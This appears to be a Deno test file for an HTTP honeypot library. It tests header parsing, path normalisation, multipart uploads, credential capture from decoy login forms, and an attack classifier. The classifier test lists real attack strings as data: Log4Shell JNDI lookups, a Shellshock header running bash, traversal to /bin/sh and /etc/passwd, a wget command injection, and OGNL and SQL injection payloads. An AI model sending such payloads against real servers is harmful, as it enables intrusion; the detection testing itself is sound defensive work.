import { assert, assertEquals } from "@std/assert";
import { isAttack } from "../../../lib/decoys/http/attacks.ts";
import { ApacheHeadParser } from "../../../lib/decoys/http/apache_head.ts";
import { findCredentials } from "../../../lib/decoys/http/credentials.ts";
import { formatHttpDate, parseHttpDate } from "../../../lib/decoys/http/dates.ts";
import { type RequestHead } from "../../../lib/decoys/http/head.ts";
import { boundaryOf, MultipartReader } from "../../../lib/decoys/http/multipart.ts";
import { NginxHeadParser } from "../../../lib/decoys/http/nginx_head.ts";
import { latin1Bytes } from "../../../lib/net/latin1.ts";
import { resolveApachePath, resolveNginxPath } from "../../../lib/decoys/http/paths.ts";
import { sha256Hex } from "../../../lib/net/digest.ts";
import { octets } from "./golden.ts";

const PARSERS = { nginx: NginxHeadParser, apache: ApacheHeadParser };

for (const [name, Parser] of Object.entries(PARSERS)) {
  Deno.test(`the head parser of ${name} keeps order, case and bytes, cut anywhere`, () => {
    const text =
      "\r\nPOST /a?b=\xff HTTP/1.1\r\nhOsT: x\r\nX-B:1\r\nx-a:  two words \r\nX-B: \xe9\r\n\r\nrest";
    const bytes = latin1Bytes(text);
    for (let at = 0; at <= bytes.length - 4; at++) {
      const parser = new Parser();
      let taken = parser.feed(bytes.subarray(0, at), 0);
      if (parser.head === undefined) taken = at + parser.feed(bytes.subarray(at), 0);
      const head = parser.head!;
      assertEquals(taken, bytes.length - 4, `cut at ${at}`);
      assertEquals([head.method, head.target, head.version], ["POST", "/a?b=\xff", "1.1"]);
      assertEquals(head.headers, [["hOsT", "x"], ["X-B", "1"], ["x-a", "two words"], [
        "X-B",
        "\xe9",
      ]]);
      assertEquals(head.fault, undefined);
      parser.reset();
      assert(parser.isIdle && parser.head === undefined && parser.partial() === undefined);
    }
  });

  Deno.test(`the head parser of ${name} holds a bounded amount, whatever comes`, () => {
    for (
      const unit of [
        "A",
        "A: b\r\n",
        "\r\n",
        " ",
        "GET / HTTP/1.1\r\n",
        "X".repeat(8000) + ": y\r\n",
      ]
    ) {
      const parser = new Parser();
      const chunk = latin1Bytes(unit.repeat(Math.ceil(1000 / unit.length)));
      parser.feed(latin1Bytes("GET / HTTP/1.1\r\n"), 0);
      let fed = 0;
      while (parser.head === undefined && fed < 4_000_000) {
        parser.feed(chunk, 0);
        fed += chunk.length;
      }
      assert(
        fed < 300_000,
        `${JSON.stringify(unit.slice(0, 9))}: ${fed} bytes taken without an answer`,
      );
    }
  });
}

Deno.test("resolveNginxPath() and resolveApachePath() stay below the root", () => {
  const cases: [string, string | number, string | number][] = [
    ["/", "/", "/"],
    ["/a/./b//c/../d", "/a/b/d", "/a/b/d"],
    ["/a/..", "/", "/"],
    ["/..", 400, 400],
    ["/%2e%2e/", 400, 400],
    ["/a/%2e%2e/%2e%2e/b", 400, 400],
    ["/a%2f..%2f..%2fb", 400, 404],
    ["/%00", 400, 404],
    ["/%zz", 400, 400],
    ["/%c3%a9", "/\xc3\xa9", "/\xc3\xa9"],
    ["/a%2Fb", "/a/b", 404],
    ["/.%2e/", 400, 400],
    ["/...", "/...", "/..."],
  ];
  for (const [target, nginx, apache] of cases) {
    const path = (resolved: ReturnType<typeof resolveNginxPath>) =>
      typeof resolved === "number" ? resolved : resolved.path;
    assertEquals(
      [path(resolveNginxPath(target)), path(resolveApachePath(target))],
      [nginx, apache],
      target,
    );
  }
});

Deno.test("parseHttpDate() reads all three forms and refuses the rest", () => {
  const seconds = Date.UTC(1994, 10, 6, 8, 49, 37) / 1000;
  assertEquals(parseHttpDate("Sun, 06 Nov 1994 08:49:37 GMT"), seconds);
  assertEquals(parseHttpDate("Sunday, 06-Nov-94 08:49:37 GMT"), seconds);
  assertEquals(parseHttpDate("Sun Nov  6 08:49:37 1994"), seconds);
  assertEquals(formatHttpDate(seconds * 1000), "Sun, 06 Nov 1994 08:49:37 GMT");
  for (const text of ["", "x", "Sun, 06 Foo 1994 08:49:37 GMT", "Sun, 06 Nov 1994 25:49:37 GMT"]) {
    assertEquals(parseHttpDate(text), undefined, text);
  }
});

Deno.test("MultipartReader finds the same parts, cut anywhere, and hashes all of a file", () => {
  const file = "\r\n--".repeat(300) + "\x00end";
  const body = latin1Bytes(
    'preamble\r\n--b\r\nContent-Disposition: form-data; name="u"\r\n\r\nroot\r\n--b\r\n' +
      'Content-Disposition: form-data; name="f"; filename="a \\"b\\".php"\r\nContent-Type: text/x\r\n\r\n' +
      `${file}\r\n--b--\r\nepilogue`,
  );
  assertEquals(boundaryOf('multipart/form-data; charset=x; boundary="b"'), "b");
  for (let size = 1; size < 80; size++) {
    const reader = new MultipartReader("b", 10);
    for (let at = 0; at < body.length; at += size) reader.add(body.subarray(at, at + size));
    const [field, upload] = reader.parts;
    assertEquals(reader.parts.length, 2);
    assertEquals([field!.name, octets(field!.content.bytes())], ["u", "root"]);
    assertEquals([upload!.fileName, upload!.type], ['a \\"b\\".php', "text/x"]);
    assertEquals(upload!.content.bytes().length, 10);
    assertEquals(upload!.content.size, file.length);
    assertEquals(upload!.content.sha256(), sha256Hex(latin1Bytes(file)));
  }
});

Deno.test("findCredentials() knows the fields of many forms", () => {
  const head = (target: string): RequestHead => ({
    method: "POST",
    target,
    version: "1.1",
    versionNumber: 1001,
    headers: [],
    pathAndQuery: target,
  });
  const find = (type: string, body: string, target = "/") =>
    findCredentials(head(target), { type, body: latin1Bytes(body), parts: [] })
      .map(({ username, secret }) => `${username}:${secret}`);
  const form = "application/x-www-form-urlencoded";
  for (
    const body of [
      "username=u&password=p",
      "log=u&pwd=p&wp-submit=Log+In",
      "j_username=u&j_password=p",
      "pma_username=u&pma_password=p&server=1",
      "LoginForm%5Buser_name%5D=u&LoginForm[pass]=p",
      "email=u&passwd=p&token=t",
      "uname=u&psw=p",
      "userid=u&pin=p",
      "txtUser=u&txtPass=p",
      "csrf_token=x&frmUserName=u&frmPassword=p",
    ]
  ) assertEquals(find(form, body), ["u:p"], body);
  for (
    const body of [
      '{"username":"u","password":"p"}',
      '{"user":{"login":"u","pass":"p"}}',
      '{"method":"login","params":{"account":"u","passwd":"p"}}',
    ]
  ) assertEquals(find("application/json", body), ["u:p"], body);
  assertEquals(
    find("", "username=u&password=p"),
    ["u:p"],
    "a client that does not say what it sends",
  );
  assertEquals(find(form, "", "/login?user=u&pass=p"), ["u:p"]);
  assertEquals(find(form, "password=only"), [":only"]);
  for (
    const body of ["q=search&page=2", "user=u", "", "{", '{"a":', "{".repeat(5000), "%%%=&=&&"]
  ) {
    assertEquals(find(form, body), [], body);
    assertEquals(find("application/json", body), [], body);
  }
});

Deno.test("findCredentials() knows WordPress's calls, one or many in a body", () => {
  const call = (user: string, pass: string) =>
    "<member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>" +
    "<member><name>params</name><value><array><data><value><array><data>" +
    `<value><string>${user}</string></value><value>${pass}</value>` +
    "</data></array></value></data></array></value></member>";
  const find = (body: string) =>
    findCredentials(
      {
        method: "POST",
        target: "/xmlrpc.php",
        version: "1.1",
        versionNumber: 1001,
        headers: [],
        pathAndQuery: "/xmlrpc.php",
      },
      { type: "text/xml", body: latin1Bytes(body), parts: [] },
    ).map(({ username, secret }) => `${username}:${secret}`);
  assertEquals(
    find(
      "<?xml version='1.0'?><methodCall><methodName>wp.getUsersBlogs</methodName><params>" +
        "<param><value><string>admin</string></value></param>" +
        "<param><value><string>a&amp;b&lt;</string></value></param></params></methodCall>",
    ),
    ["admin:a&b<"],
  );
  assertEquals(find(`<?xml version="1.0"?><methodCall>${call("u", "p")}${call("u", "q")}`), [
    "u:p",
    "u:q",
  ]);
  assertEquals(find(`<x>${call("u", "p").repeat(100)}`).length, 8);
  assertEquals(find("<methodCall><methodName>system.listMethods</methodName></methodCall>"), []);
});

Deno.test("isAttack() tells what is known from attacks from what is not", () => {
  const attacks = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/blog/wp-admin/setup.php",
    "/phpmyadmin/index.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://x`)",
    "/actuator/gateway/routes",
    "/boaform/admin/formLogin",
    "/GponForm/diag_Form?images/",
    "/HNAP1/",
    "/solr/admin/info/system",
    "/manager/html",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/?x=${jndi:ldap://x/a}",
    "/x?redirect:${%23a%3d(new%20java.lang.ProcessBuilder())}",
    "/a?id=1%20UNION%20SELECT%20password%20FROM%20users",
    "/download?file=..%252f..%252fetc/passwd",
    "/shell.php",
    "/remote/login?lang=en",
    "/owa/auth/x.js",
    "/backup.zip",
    "/nice%20ports%2C/Tri%6Eity.txt%2ebak",
  ];
  for (const target of attacks) assertEquals(isAttack(target, []), true, target);
  const harmless = [
    "/",
    "/favicon.ico",
    "/robots.txt",
    "/index.html",
    "/assets/css/portal.0123abcd.css?v=2",
    "/login.php",
    "/api/v2/session",
    "/news/2026/select-committee-from-norway",
    "/search?q=how+to+cook+rice",
    "*",
  ];
  for (const target of harmless) assertEquals(isAttack(target, []), false, target);
  assertEquals(isAttack("/", [["User-Agent", "() { :; }; /bin/bash -c id"]]), true);
  assertEquals(isAttack("/", [["X-Api-Version", "${jndi:ldap://x/a}"]]), true);
  assertEquals(
    isAttack("/", [["Accept", "text/html;q=0.9"], ["Referer", "http://x/?a=(b)"]]),
    false,
  );
});
